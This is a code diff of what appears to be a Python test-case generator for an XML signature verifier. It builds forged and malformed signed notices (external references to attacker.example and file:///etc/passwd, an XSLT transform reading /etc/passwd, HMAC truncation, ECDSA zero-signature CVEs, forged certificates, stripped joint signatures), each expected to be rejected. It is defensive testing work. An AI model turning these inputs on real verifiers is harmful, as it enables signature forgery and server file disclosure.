+        "reference-xpointer-root",
+        custom(Shape(uri="#xpointer(/)")),
+        "SignatureError",
+        URI_REFUSED,
+        "Reference URI='#xpointer(/)' (the whole document, with comments) instead of URI=''.",
+    )
+    add(
+        "reference-external-http",
+        custom(
+            Shape(
+                uri="http://attacker.example/gongwen.xml",
+                transforms=((EXC_C14N, None),),
+                digest_input=lambda root, sig: b"remote content",
+            )
+        ),
+        "SignatureError",
+        URI_REFUSED,
+        "Reference to an external http:// URI (SSRF, detached content).",
+    )
+    add(
+        "reference-external-file",
+        custom(
+            Shape(
+                uri="file:///etc/passwd",
+                transforms=((EXC_C14N, None),),
+                digest_input=lambda root, sig: b"root:x:0:0:root:/root:/bin/bash\n",
+            )
+        ),
+        "SignatureError",
+        URI_REFUSED,
+        "Reference to file:///etc/passwd.",
+    )
+    add(
+        "reference-without-uri",
+        custom(Shape(uri=None)),
+        "SignatureError",
+        URI_REFUSED,
+        "A Reference with no URI attribute (the application is supposed to know what it means).",
+    )
 
     def type_attribute(signature: etree._Element) -> None:
         first(signature, f"{DS}SignedInfo/{DS}Reference").set("Type", "http://www.w3.org/2000/09/xmldsig#Object")
 
-    add("reference-type-attribute", custom(Shape(before_signing=type_attribute)), "SignatureError",
-        "ds:Reference has attributes outside the profile: ['Type']", "A Type attribute on the Reference.")
+    add(
+        "reference-type-attribute",
+        custom(Shape(before_signing=type_attribute)),
+        "SignatureError",
+        "ds:Reference has attributes outside the profile: ['Type']",
+        "A Type attribute on the Reference.",
+    )
 
     def second_reference(signature: etree._Element) -> None:
         reference = first(signature, f"{DS}SignedInfo/{DS}Reference")
@@ -880,25 +1175,39 @@ def reference_attacks(c: Context) -> None:
         extra.set("URI", "#evil")
         reference.addnext(extra)
 
-    add("two-references", custom(Shape(before_signing=second_reference)), "SignatureError",
+    add(
+        "two-references",
+        custom(Shape(before_signing=second_reference)),
+        "SignatureError",
         "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference; found "
         "CanonicalizationMethod, SignatureMethod, Reference, Reference",
-        "SignedInfo with a second Reference (URI='#evil'), correctly signed.")
+        "SignedInfo with a second Reference (URI='#evil'), correctly signed.",
+    )
 
     def extra_in_signed_info(signature: etree._Element) -> None:
-        etree.SubElement(first(signature, DS + "SignedInfo"), "{urn:attacker:evil}Note",
-                         nsmap={"evil": EVIL_NS}).text = "ignored"
+        etree.SubElement(
+            first(signature, DS + "SignedInfo"), "{urn:attacker:evil}Note", nsmap={"evil": EVIL_NS}
+        ).text = "ignored"
 
-    add("extra-element-in-signedinfo", custom(Shape(before_signing=extra_in_signed_info)), "SignatureError",
+    add(
+        "extra-element-in-signedinfo",
+        custom(Shape(before_signing=extra_in_signed_info)),
+        "SignatureError",
         "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference; found "
         "CanonicalizationMethod, SignatureMethod, Reference, Note",
-        "A foreign element appended inside SignedInfo, correctly signed.")
+        "A foreign element appended inside SignedInfo, correctly signed.",
+    )
 
     def signed_info_id(signature: etree._Element) -> None:
         first(signature, DS + "SignedInfo").set("Id", "si")
 
-    add("signedinfo-attribute", custom(Shape(before_signing=signed_info_id)), "SignatureError",
-        "ds:SignedInfo has attributes outside the profile: ['Id']", "An Id attribute on SignedInfo.")
+    add(
+        "signedinfo-attribute",
+        custom(Shape(before_signing=signed_info_id)),
+        "SignatureError",
+        "ds:SignedInfo has attributes outside the profile: ['Id']",
+        "An Id attribute on SignedInfo.",
+    )
 
 
 def algorithm_attacks(c: Context) -> None:
@@ -908,21 +1217,44 @@ def algorithm_attacks(c: Context) -> None:
     def child(local: str, text: str | None = None, ns: str = DS_NS, **attrs: str) -> Hook:
         def build(parent: etree._Element) -> None:
             etree.SubElement(parent, "{" + ns + "}" + local, attrs).text = text
+
         return build
 
-    add("c14n-inclusive", custom(Shape(c14n=INCL_C14N)), "SignatureError",
+    add(
+        "c14n-inclusive",
+        custom(Shape(c14n=INCL_C14N)),
+        "SignatureError",
         f"canonicalization algorithm {INCL_C14N} is not accepted",
-        "Inclusive C14N 1.0 as CanonicalizationMethod (in-scope namespaces leak into SignedInfo).")
-    add("c14n-11", custom(Shape(c14n=C14N11)), "SignatureError",
-        f"canonicalization algorithm {C14N11} is not accepted", "C14N 1.1 as CanonicalizationMethod.")
-    add("c14n-with-comments", custom(Shape(c14n=EXC_C14N_COMMENTS)), "SignatureError",
+        "Inclusive C14N 1.0 as CanonicalizationMethod (in-scope namespaces leak into SignedInfo).",
+    )
+    add(
+        "c14n-11",
+        custom(Shape(c14n=C14N11)),
+        "SignatureError",
+        f"canonicalization algorithm {C14N11} is not accepted",
+        "C14N 1.1 as CanonicalizationMethod.",
+    )
+    add(
+        "c14n-with-comments",
+        custom(Shape(c14n=EXC_C14N_COMMENTS)),
+        "SignatureError",
         f"canonicalization algorithm {EXC_C14N_COMMENTS} is not accepted",
-        "Exclusive C14N WithComments as CanonicalizationMethod.")
-    add("transform-c14n-11", custom(Shape(transforms=((ENVELOPED, None), (C14N11, None)))), "SignatureError",
-        f"transform algorithm {C14N11} is not accepted", "C14N 1.1 as the second transform.")
-    add("transform-inclusive-c14n", custom(Shape(transforms=((ENVELOPED, None), (INCL_C14N, None)))),
-        "SignatureError", f"transform algorithm {INCL_C14N} is not accepted",
-        "Inclusive C14N 1.0 as the second transform.")
+        "Exclusive C14N WithComments as CanonicalizationMethod.",
+    )
+    add(
+        "transform-c14n-11",
+        custom(Shape(transforms=((ENVELOPED, None), (C14N11, None)))),
+        "SignatureError",
+        f"transform algorithm {C14N11} is not accepted",
+        "C14N 1.1 as the second transform.",
+    )
+    add(
+        "transform-inclusive-c14n",
+        custom(Shape(transforms=((ENVELOPED, None), (INCL_C14N, None)))),
+        "SignatureError",
+        f"transform algorithm {INCL_C14N} is not accepted",
+        "Inclusive C14N 1.0 as the second transform.",
+    )
     stylesheet = (
         b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
         b'<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/>'
@@ -932,50 +1264,112 @@ def algorithm_attacks(c: Context) -> None:
     def xslt(transform: etree._Element) -> None:
         transform.append(etree.fromstring(stylesheet))
 
-    add("transform-xslt", custom(Shape(transforms=((ENVELOPED, None), (XSLT, xslt)))), "SignatureError",
+    add(
+        "transform-xslt",
+        custom(Shape(transforms=((ENVELOPED, None), (XSLT, xslt)))),
+        "SignatureError",
         "the transform " + NO_PARAMETERS,
-        "An XSLT transform whose stylesheet reads file:///etc/passwd (code execution inside verification).")
-    add("transform-xpath",
-        custom(Shape(transforms=(
-            (XPATH, child("XPath", "not(ancestor-or-self::ds:Signature)")), (EXC_C14N, None)))),
-        "SignatureError", "the transform " + NO_PARAMETERS,
+        "An XSLT transform whose stylesheet reads file:///etc/passwd (code execution inside verification).",
+    )
+    add(
+        "transform-xpath",
+        custom(Shape(transforms=((XPATH, child("XPath", "not(ancestor-or-self::ds:Signature)")), (EXC_C14N, None)))),
+        "SignatureError",
+        "the transform " + NO_PARAMETERS,
         "An XPath transform not(ancestor-or-self::ds:Signature) instead of enveloped-signature (XPath runs inside "
-        "verification: DoS and selection tricks).")
-    add("transform-xpath-filter2",
-        custom(Shape(transforms=(
-            (XPATH_FILTER2, child("XPath", "//ds:Signature", ns=XPATH_FILTER2, Filter="subtract")),
-            (EXC_C14N, None)))),
-        "SignatureError", "the transform " + NO_PARAMETERS,
-        "An XPath Filter 2.0 transform (subtract //ds:Signature) instead of enveloped-signature.")
-    add("transform-exc-c14n-prefixlist",
-        custom(Shape(transforms=(
-            (ENVELOPED, None),
-            (EXC_C14N, child("InclusiveNamespaces", ns=EXC_C14N, PrefixList="gw ds"))))),
-        "SignatureError", "the transform " + NO_PARAMETERS,
-        "Exclusive C14N with an InclusiveNamespaces PrefixList parameter.")
-    add("transforms-three", custom(Shape(transforms=((ENVELOPED, None), (ENVELOPED, None), (EXC_C14N, None)))),
-        "SignatureError", "ds:Transforms must contain exactly Transform, Transform; found Transform, Transform, "
-        "Transform", "Three transforms (enveloped-signature twice).")
-    add("transforms-swapped", custom(Shape(transforms=((EXC_C14N, None), (ENVELOPED, None)))), "SignatureError",
+        "verification: DoS and selection tricks).",
+    )
+    add(
+        "transform-xpath-filter2",
+        custom(
+            Shape(
+                transforms=(
+                    (XPATH_FILTER2, child("XPath", "//ds:Signature", ns=XPATH_FILTER2, Filter="subtract")),
+                    (EXC_C14N, None),
+                )
+            )
+        ),
+        "SignatureError",
+        "the transform " + NO_PARAMETERS,
+        "An XPath Filter 2.0 transform (subtract //ds:Signature) instead of enveloped-signature.",
+    )
+    add(
+        "transform-exc-c14n-prefixlist",
+        custom(
+            Shape(
+                transforms=(
+                    (ENVELOPED, None),
+                    (EXC_C14N, child("InclusiveNamespaces", ns=EXC_C14N, PrefixList="gw ds")),
+                )
+            )
+        ),
+        "SignatureError",
+        "the transform " + NO_PARAMETERS,
+        "Exclusive C14N with an InclusiveNamespaces PrefixList parameter.",
+    )
+    add(
+        "transforms-three",
+        custom(Shape(transforms=((ENVELOPED, None), (ENVELOPED, None), (EXC_C14N, None)))),
+        "SignatureError",
+        "ds:Transforms must contain exactly Transform, Transform; found Transform, Transform, Transform",
+        "Three transforms (enveloped-signature twice).",
+    )
+    add(
+        "transforms-swapped",
+        custom(Shape(transforms=((EXC_C14N, None), (ENVELOPED, None)))),
+        "SignatureError",
         "transforms must be exactly enveloped-signature then exclusive C14N",
-        "The two allowed transforms in the wrong order.")
-    add("transforms-only-enveloped", custom(Shape(transforms=((ENVELOPED, None),))), "SignatureError",
+        "The two allowed transforms in the wrong order.",
+    )
+    add(
+        "transforms-only-enveloped",
+        custom(Shape(transforms=((ENVELOPED, None),))),
+        "SignatureError",
         "ds:Transforms must contain exactly Transform, Transform; found Transform",
-        "Only the enveloped-signature transform (the default inclusive C14N applies).")
-    add("digest-sha1", custom(Shape(digest=SHA1)), "SignatureError", f"digest algorithm {SHA1} is not accepted",
-        "SHA-1 as DigestMethod, correctly computed and signed.")
-    add("digest-md5", custom(Shape(digest=MD5)), "SignatureError", f"digest algorithm {MD5} is not accepted",
-        "MD5 (xmldsig-more#md5) as DigestMethod, correctly computed and signed.")
-    add("signature-ecdsa-sha1", custom(Shape(method=ECDSA_SHA1)), "SignatureError",
-        f"signature algorithm {ECDSA_SHA1} is not accepted", "ECDSA-SHA1 SignatureMethod with the office's key.")
-    add("signature-rsa-sha1",
-        custom(Shape(method=RSA_SHA1), office_rsa), "SignatureError",
-        f"signature algorithm {RSA_SHA1} is not accepted", "RSA-SHA1 SignatureMethod with the office's RSA key.")
-    add("signature-rsa-pss", custom(Shape(method=RSA_PSS), office_rsa), "SignatureError",
-        f"signature algorithm {RSA_PSS} is not accepted", "RSA-PSS (SHA-256, MGF1) with the office's RSA key.")
-    add("signature-hmac-sha256", custom(Shape(method=HMAC_SHA256, hmac_key=office.der)), "SignatureError",
+        "Only the enveloped-signature transform (the default inclusive C14N applies).",
+    )
+    add(
+        "digest-sha1",
+        custom(Shape(digest=SHA1)),
+        "SignatureError",
+        f"digest algorithm {SHA1} is not accepted",
+        "SHA-1 as DigestMethod, correctly computed and signed.",
+    )
+    add(
+        "digest-md5",
+        custom(Shape(digest=MD5)),
+        "SignatureError",
+        f"digest algorithm {MD5} is not accepted",
+        "MD5 (xmldsig-more#md5) as DigestMethod, correctly computed and signed.",
+    )
+    add(
+        "signature-ecdsa-sha1",
+        custom(Shape(method=ECDSA_SHA1)),
+        "SignatureError",
+        f"signature algorithm {ECDSA_SHA1} is not accepted",
+        "ECDSA-SHA1 SignatureMethod with the office's key.",
+    )
+    add(
+        "signature-rsa-sha1",
+        custom(Shape(method=RSA_SHA1), office_rsa),
+        "SignatureError",
+        f"signature algorithm {RSA_SHA1} is not accepted",
+        "RSA-SHA1 SignatureMethod with the office's RSA key.",
+    )
+    add(
+        "signature-rsa-pss",
+        custom(Shape(method=RSA_PSS), office_rsa),
+        "SignatureError",
+        f"signature algorithm {RSA_PSS} is not accepted",
+        "RSA-PSS (SHA-256, MGF1) with the office's RSA key.",
+    )
+    add(
+        "signature-hmac-sha256",
+        custom(Shape(method=HMAC_SHA256, hmac_key=office.der)),
+        "SignatureError",
         f"signature algorithm {HMAC_SHA256} is not accepted",
-        "HMAC-SHA256 keyed with the public certificate in KeyInfo (key confusion: anyone can compute it).")
+        "HMAC-SHA256 keyed with the public certificate in KeyInfo (key confusion: anyone can compute it).",
+    )
 
     def hmac_output_length(signature: etree._Element) -> None:
         method = first(signature, f"{DS}SignedInfo/{DS}SignatureMethod")
@@ -983,11 +1377,20 @@ def algorithm_attacks(c: Context) -> None:
 
     root = custom(Shape(method=HMAC_SHA1, hmac_key=office.der, before_signing=hmac_output_length))
     signature_blocks(root)[-1].find(DS + "SignatureValue").text = ""
-    add("hmac-output-length-zero", root, "SignatureError", "the signature " + NO_PARAMETERS,
-        "CVE-2009-0217: HMAC-SHA1 with HMACOutputLength 0 and an empty SignatureValue.")
-    add("hmac-output-length-on-ecdsa",
-        custom(Shape(before_signing=hmac_output_length)), "SignatureError", "the signature " + NO_PARAMETERS,
-        "An HMACOutputLength parameter on the ECDSA-SHA256 SignatureMethod.")
+    add(
+        "hmac-output-length-zero",
+        root,
+        "SignatureError",
+        "the signature " + NO_PARAMETERS,
+        "CVE-2009-0217: HMAC-SHA1 with HMACOutputLength 0 and an empty SignatureValue.",
+    )
+    add(
+        "hmac-output-length-on-ecdsa",
+        custom(Shape(before_signing=hmac_output_length)),
+        "SignatureError",
+        "the signature " + NO_PARAMETERS,
+        "An HMACOutputLength parameter on the ECDSA-SHA256 SignatureMethod.",
+    )
     # A correct ECDSA value over a SignedInfo labelled RSA-SHA256: only the key-type check can catch it.
     root = fresh()
     sign_shape(root, office)
@@ -995,16 +1398,27 @@ def algorithm_attacks(c: Context) -> None:
     first(signature, f"{DS}SignedInfo/{DS}SignatureMethod").set("Algorithm", RSA_SHA256)
     signed_info = first(signature, DS + "SignedInfo")
     first(signature, DS + "SignatureValue").text = b64(signature_value(ECDSA_SHA256, office.key, c14n(signed_info)))
-    add("algorithm-rsa-with-ec-key", root, "SignatureError", "does not match the certificate's key type",
-        "Algorithm confusion: SignatureMethod says RSA-SHA256, the certificate holds an EC key.")
+    add(
+        "algorithm-rsa-with-ec-key",
+        root,
+        "SignatureError",
+        "does not match the certificate's key type",
+        "Algorithm confusion: SignatureMethod says RSA-SHA256, the certificate holds an EC key.",
+    )
     root = fresh()
     sign_shape(root, office_rsa, Shape(method=RSA_SHA256))
     signature = signature_blocks(root)[-1]
     first(signature, f"{DS}SignedInfo/{DS}SignatureMethod").set("Algorithm", ECDSA_SHA256)
     first(signature, DS + "SignatureValue").text = b64(
-        signature_value(RSA_SHA256, office_rsa.key, c14n(first(signature, DS + "SignedInfo"))))
-    add("algorithm-ecdsa-with-rsa-key", root, "SignatureError", "does not match the certificate's key type",
-        "Algorithm confusion: SignatureMethod says ECDSA-SHA256, the certificate holds an RSA key.")
+        signature_value(RSA_SHA256, office_rsa.key, c14n(first(signature, DS + "SignedInfo")))
+    )
+    add(
+        "algorithm-ecdsa-with-rsa-key",
+        root,
+        "SignatureError",
+        "does not match the certificate's key type",
+        "Algorithm confusion: SignatureMethod says ECDSA-SHA256, the certificate holds an RSA key.",
+    )
 
 
 def value_attacks(c: Context) -> None:
@@ -1016,30 +1430,60 @@ def value_attacks(c: Context) -> None:
         signature_blocks(root)[-1].find(DS + "SignatureValue").text = value
         return root
 
-    add("signature-value-not-base64", with_value("!!not-base64!!"), "SignatureError",
-        "ds:SignatureValue is not valid base64", "A SignatureValue that is not base64.")
-    add("signature-value-zero", with_value(b64(bytes(64))), "SignatureError", "signature value does not verify",
-        "ECDSA r = s = 0 (CVE-2022-21449, 'psychic signatures').")
-    add("signature-value-short", with_value(b64(bytes(63))), "SignatureError",
-        "ECDSA signature value has the wrong length", "A 63-byte ECDSA SignatureValue.")
-    add("signature-value-der", with_value(b64(office.key.sign(b"x", ec.ECDSA(hashes.SHA256())))), "SignatureError",
+    add(
+        "signature-value-not-base64",
+        with_value("!!not-base64!!"),
+        "SignatureError",
+        "ds:SignatureValue is not valid base64",
+        "A SignatureValue that is not base64.",
+    )
+    add(
+        "signature-value-zero",
+        with_value(b64(bytes(64))),
+        "SignatureError",
+        "signature value does not verify",
+        "ECDSA r = s = 0 (CVE-2022-21449, 'psychic signatures').",
+    )
+    add(
+        "signature-value-short",
+        with_value(b64(bytes(63))),
+        "SignatureError",
         "ECDSA signature value has the wrong length",
-        "An ECDSA value in DER (X9.62) form instead of the raw r‖s of RFC 4051.")
-    add("signature-value-empty", with_value(""), "SignatureError", "ECDSA signature value has the wrong length",
-        "An empty SignatureValue.")
-    add("signature-value-transplanted",
+        "A 63-byte ECDSA SignatureValue.",
+    )
+    add(
+        "signature-value-der",
+        with_value(b64(office.key.sign(b"x", ec.ECDSA(hashes.SHA256())))),
+        "SignatureError",
+        "ECDSA signature value has the wrong length",
+        "An ECDSA value in DER (X9.62) form instead of the raw r‖s of RFC 4051.",
+    )
+    add(
+        "signature-value-empty",
+        with_value(""),
+        "SignatureError",
+        "ECDSA signature value has the wrong length",
+        "An empty SignatureValue.",
+    )
+    add(
+        "signature-value-transplanted",
         with_value(signature_blocks(original)[-1].find(DS + "SignatureValue").text or "", parse(joint)),
-        "SignatureError", "signature value does not verify",
-        "The SignatureValue of the signed notice pasted over the last signature of the joint notice.")
+        "SignatureError",
+        "signature value does not verify",
+        "The SignatureValue of the signed notice pasted over the last signature of the joint notice.",
+    )
 
 
 def keyinfo_attacks(c: Context) -> None:
     """KeyInfo."""
     pki, office, add, fresh, signed_copy, custom = c.pki, c.office, c.add, c.fresh, c.signed_copy, c.custom
-    add("keyinfo-two-certificates",
-        custom(Shape(certificates=(pki.attacker_office.der, office.der))), "SignatureError",
+    add(
+        "keyinfo-two-certificates",
+        custom(Shape(certificates=(pki.attacker_office.der, office.der))),
+        "SignatureError",
         "ds:X509Data must contain exactly X509Certificate; found X509Certificate, X509Certificate",
-        "Two certificates in X509Data: the attacker's first, the office's second.")
+        "Two certificates in X509Data: the attacker's first, the office's second.",
+    )
 
     def second_x509data(signature: etree._Element) -> None:
         key_info = first(signature, DS + "KeyInfo")
@@ -1047,36 +1491,57 @@ def keyinfo_attacks(c: Context) -> None:
         etree.SubElement(extra, DS + "X509Certificate").text = b64(pki.attacker_office.der)
         key_info.insert(0, extra)
 
-    add("keyinfo-two-x509data", custom(Shape(before_signing=second_x509data)), "SignatureError",
+    add(
+        "keyinfo-two-x509data",
+        custom(Shape(before_signing=second_x509data)),
+        "SignatureError",
         "ds:KeyInfo must contain exactly X509Data; found X509Data, X509Data",
-        "Two X509Data elements in KeyInfo, the attacker's first.")
+        "Two X509Data elements in KeyInfo, the attacker's first.",
+    )
 
     def key_value(signature: etree._Element) -> None:
         key_info = first(signature, DS + "KeyInfo")
         key_info.remove(first(key_info, DS + "X509Data"))
         numbers = pki.attacker_office.key.public_key().public_numbers()
         assert isinstance(numbers, ec.EllipticCurvePublicNumbers)
-        ec_key = etree.SubElement(etree.SubElement(key_info, DS + "KeyValue"), DS11 + "ECKeyValue",
-                                  nsmap={"dsig11": DS11_NS})
+        ec_key = etree.SubElement(
+            etree.SubElement(key_info, DS + "KeyValue"), DS11 + "ECKeyValue", nsmap={"dsig11": DS11_NS}
+        )
         etree.SubElement(ec_key, DS11 + "NamedCurve", URI="urn:oid:1.2.840.10045.3.1.7")
         etree.SubElement(ec_key, DS11 + "PublicKey").text = b64(
-            b"\x04" + numbers.x.to_bytes(32, "big") + numbers.y.to_bytes(32, "big"))
+            b"\x04" + numbers.x.to_bytes(32, "big") + numbers.y.to_bytes(32, "big")
+        )
 
     root = fresh()
     first(root, GW + "Title").text = EVIL_TITLE
     sign_shape(root, pki.attacker_office, Shape(before_signing=key_value))
-    add("keyinfo-keyvalue", root, "SignatureError", "ds:KeyInfo must contain exactly X509Data; found KeyValue",
-        "A forged notice signed by the attacker's key, given as a bare KeyValue instead of a certificate.")
+    add(
+        "keyinfo-keyvalue",
+        root,
+        "SignatureError",
+        "ds:KeyInfo must contain exactly X509Data; found KeyValue",
+        "A forged notice signed by the attacker's key, given as a bare KeyValue instead of a certificate.",
+    )
     root = signed_copy()
     signature = signature_blocks(root)[-1]
     signature.remove(first(signature, DS + "KeyInfo"))
-    add("keyinfo-missing", root, "SignatureError", SIGNATURE_CHILDREN + " SignedInfo, SignatureValue",
-        "The valid signature with its KeyInfo removed (the verifier is supposed to know the key).")
+    add(
+        "keyinfo-missing",
+        root,
+        "SignatureError",
+        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue",
+        "The valid signature with its KeyInfo removed (the verifier is supposed to know the key).",
+    )
     root = signed_copy()
     certificate = first(signature_blocks(root)[-1], f"{DS}KeyInfo/{DS}X509Data/{DS}X509Certificate")
     certificate.text = b64(b"\x30\x03\x02\x01\x00")
-    add("certificate-not-der", root, "TrustError", "certificate is not valid DER X.509",
-        "A KeyInfo certificate that is not an X.509 certificate.")
+    add(
+        "certificate-not-der",
+        root,
+        "TrustError",
+        "certificate is not valid DER X.509",
+        "A KeyInfo certificate that is not an X.509 certificate.",
+    )
 
 
 def certificate_attacks(c: Context) -> None:
@@ -1089,64 +1554,135 @@ def certificate_attacks(c: Context) -> None:
         sign_shape(root, signer, **kw)
         return root
 
-    add("cert-self-signed", forged(pki.self_signed_office), "TrustError",
+    add(
+        "cert-self-signed",
+        forged(pki.self_signed_office),
+        "TrustError",
         "certificate is self-signed; only certificates issued by the root are trusted",
-        "A forged notice correctly signed with an attacker's key and a self-signed certificate naming "
-        "gd.gov.office.")
-    add("cert-attacker-root", forged(pki.attacker_office), "TrustError",
+        "A forged notice correctly signed with an attacker's key and a self-signed certificate naming gd.gov.office.",
+    )
+    add(
+        "cert-attacker-root",
+        forged(pki.attacker_office),
+        "TrustError",
         "certificate is not issued by the configured root",
-        "A forged notice signed with a gd.gov.office certificate from the attacker's own root.")
-    add("cert-impostor-root", forged(pki.impostor_office), "TrustError",
+        "A forged notice signed with a gd.gov.office certificate from the attacker's own root.",
+    )
+    add(
+        "cert-impostor-root",
+        forged(pki.impostor_office),
+        "TrustError",
         "certificate's signature does not verify with the configured root",
-        "A forged notice signed with a certificate from an impostor root that copies the trusted root's name.")
-    add("cert-root-itself", forged(pki.root), "TrustError", "certificate is self-signed",
-        "A forged notice signed with the root key, the root certificate in KeyInfo.")
-    add("cert-ca-flag", forged(pki.ca_flag_office), "TrustError", "an end-entity certificate must say it is not a CA",
-        "Signed with a certificate the root issued with basicConstraints CA=true (naming gd.gov.office).")
-    add("cert-from-sub-ca", forged(pki.sub_ca_office), "TrustError", "certificate is not issued by the configured root",
-        "Signed with a gd.gov.office certificate issued by a sub-CA (only direct issuance by the root counts).")
-    add("cert-expired", custom(signer=pki.office_expired), "TrustError",
+        "A forged notice signed with a certificate from an impostor root that copies the trusted root's name.",
+    )
+    add(
+        "cert-root-itself",
+        forged(pki.root),
+        "TrustError",
+        "certificate is self-signed",
+        "A forged notice signed with the root key, the root certificate in KeyInfo.",
+    )
+    add(
+        "cert-ca-flag",
+        forged(pki.ca_flag_office),
+        "TrustError",
+        "an end-entity certificate must say it is not a CA",
+        "Signed with a certificate the root issued with basicConstraints CA=true (naming gd.gov.office).",
+    )
+    add(
+        "cert-from-sub-ca",
+        forged(pki.sub_ca_office),
+        "TrustError",
+        "certificate is not issued by the configured root",
+        "Signed with a gd.gov.office certificate issued by a sub-CA (only direct issuance by the root counts).",
+    )
+    add(
+        "cert-expired",
+        custom(signer=pki.office_expired),
+        "TrustError",
         "is not valid at 2026-11-20T08:00:00Z: valid 2026-01-01T00:00:00Z to 2026-03-01T00:00:00Z",
-        "The notice signed on 2026-11-20 with gd.gov.office's certificate that expired on 2026-03-01.")
-    add("cert-revoked", custom(signer=pki.office_revoked), "TrustError",
+        "The notice signed on 2026-11-20 with gd.gov.office's certificate that expired on 2026-03-01.",
+    )
+    add(
+        "cert-revoked",
+        custom(signer=pki.office_revoked),
+        "TrustError",
         "was revoked on 2026-06-01T00:00:00Z (keyCompromise)",
-        "The notice signed with gd.gov.office's certificate revoked for keyCompromise on 2026-06-01.")
-    add("cert-revoked-backdated", custom(signer=pki.office_revoked, time="2026-05-01T08:00:00Z"), "TrustError",
+        "The notice signed with gd.gov.office's certificate revoked for keyCompromise on 2026-06-01.",
+    )
+    add(
+        "cert-revoked-backdated",
+        custom(signer=pki.office_revoked, time="2026-05-01T08:00:00Z"),
+        "TrustError",
         "was revoked on 2026-06-01T00:00:00Z (keyCompromise)",
         "Signed with the compromised key and backdated before the revocation: keyCompromise voids every "
-        "signature whatever time it claims.")
-    add("cert-encryption", custom(signer=pki.office_encryption), "TrustError",
+        "signature whatever time it claims.",
+    )
+    add(
+        "cert-encryption",
+        custom(signer=pki.office_encryption),
+        "TrustError",
         "certificate of gd.gov.office is not a signing certificate (key usage)",
-        "Signed with gd.gov.office's encryption (key agreement) certificate.")
-    add("cert-node", custom(signer=pki.node), "TrustError",
+        "Signed with gd.gov.office's encryption (key agreement) certificate.",
+    )
+    add(
+        "cert-node",
+        custom(signer=pki.node),
+        "TrustError",
         "certificate of gd-hub.gov is a node certificate, not a department one",
-        "The exchange node's key signs the notice as gd.gov.office (Signing names gd.gov.office).")
+        "The exchange node's key signs the notice as gd.gov.office (Signing names gd.gov.office).",
+    )
 
 
 def signing_attacks(c: Context) -> None:
     """The Signing element."""
     pki, signed, add, signed_copy, custom = c.pki, c.signed, c.add, c.signed_copy, c.custom
-    add("signing-department-mismatch", custom(department=CZT), "SignatureError",
+    add(
+        "signing-department-mismatch",
+        custom(department=CZT),
+        "SignatureError",
         ORDER_BROKEN,
-        "Signed by gd.gov.office with a Signing element that names gd.gov.czt.")
-    add("signing-by-other-department", custom(signer=pki.czt, department=CZT), "SignatureError",
+        "Signed by gd.gov.office with a Signing element that names gd.gov.czt.",
+    )
+    add(
+        "signing-by-other-department",
+        custom(signer=pki.czt, department=CZT),
+        "SignatureError",
         "signatures by gd.gov.czt do not follow the issuing departments gd.gov.office",
-        "gd.gov.czt, a trusted department but not the issuer, signs the office's notice in its own name.")
-    add("signing-time-future", custom(time="2027-01-01T00:00:00Z"), "SignatureError",
+        "gd.gov.czt, a trusted department but not the issuer, signs the office's notice in its own name.",
+    )
+    add(
+        "signing-time-future",
+        custom(time="2027-01-01T00:00:00Z"),
+        "SignatureError",
         "claims a future time 2027-01-01T00:00:00Z",
-        "Correctly signed, claiming a signing time in 2027 (after the verifier's clock).")
-    add("signing-time-malformed", custom(time="2026-11-20T16:00:00+08:00"), "SignatureError",
+        "Correctly signed, claiming a signing time in 2027 (after the verifier's clock).",
+    )
+    add(
+        "signing-time-malformed",
+        custom(time="2026-11-20T16:00:00+08:00"),
+        "SignatureError",
         "signing time '2026-11-20T16:00:00+08:00' is not of the form",
-        "Correctly signed, with a signing time not in the form YYYY-MM-DDThh:mm:ssZ.")
+        "Correctly signed, with a signing time not in the form YYYY-MM-DDThh:mm:ssZ.",
+    )
     root = signed_copy()
     root.remove(signature_blocks(root)[0])
-    add("signing-element-missing", root, "SignatureError", NOT_SIGNED,
-        "The Signing element removed: the Signature alone is no signature block.")
+    add(
+        "signing-element-missing",
+        root,
+        "SignatureError",
+        NOT_SIGNED,
+        "The Signing element removed: the Signature alone is no signature block.",
+    )
     appended = parse(signed)
     sign_shape(appended, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
-    add("extra-signature-by-non-issuer", appended, "SignatureError",
+    add(
+        "extra-signature-by-non-issuer",
+        appended,
+        "SignatureError",
         "signatures by gd.gov.office, gd.gov.czt do not follow the issuing departments gd.gov.office",
-        "The valid notice co-signed afterwards by gd.gov.czt, which is not an issuer.")
+        "The valid notice co-signed afterwards by gd.gov.czt, which is not an issuer.",
+    )
 
 
 def joint_attacks(c: Context) -> None:
@@ -1156,38 +1692,65 @@ def joint_attacks(c: Context) -> None:
     root = copy.deepcopy(joint_root)
     for element in signature_blocks(root)[2:]:
         root.remove(element)
-    add("joint-second-signature-stripped", root, "SignatureError",
+    add(
+        "joint-second-signature-stripped",
+        root,
+        "SignatureError",
         "the document is not fully signed: gd.gov.gxt has not signed yet",
-        "The joint notice with the second department's (gd.gov.gxt) signature block removed.")
+        "The joint notice with the second department's (gd.gov.gxt) signature block removed.",
+    )
     root = copy.deepcopy(joint_root)
     for element in signature_blocks(root)[:2]:
         root.remove(element)
-    add("joint-first-signature-stripped", root, "SignatureError", ORDER_BROKEN,
-        "The joint notice with the lead department's (gd.gov.czt) block removed: gxt's signature covered it.")
+    add(
+        "joint-first-signature-stripped",
+        root,
+        "SignatureError",
+        ORDER_BROKEN,
+        "The joint notice with the lead department's (gd.gov.czt) block removed: gxt's signature covered it.",
+    )
     root = copy.deepcopy(joint_root)
     blocks = signature_blocks(root)
     for element in blocks:
         root.remove(element)
     root.extend(blocks[2:] + blocks[:2])
-    add("joint-blocks-swapped", root, "SignatureError", ORDER_BROKEN,
-        "The two signature blocks of the joint notice in swapped order.")
+    add(
+        "joint-blocks-swapped",
+        root,
+        "SignatureError",
+        ORDER_BROKEN,
+        "The two signature blocks of the joint notice in swapped order.",
+    )
     root = parse(joint_draft)
     sign_shape(root, pki.czt, department=CZT)
     sign_shape(root, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
-    add("joint-same-department-twice", root, "SignatureError",
+    add(
+        "joint-same-department-twice",
+        root,
+        "SignatureError",
         "signatures by gd.gov.czt, gd.gov.czt do not follow the issuing departments gd.gov.czt, gd.gov.gxt",
-        "The joint notice signed twice by the lead department and never by gd.gov.gxt.")
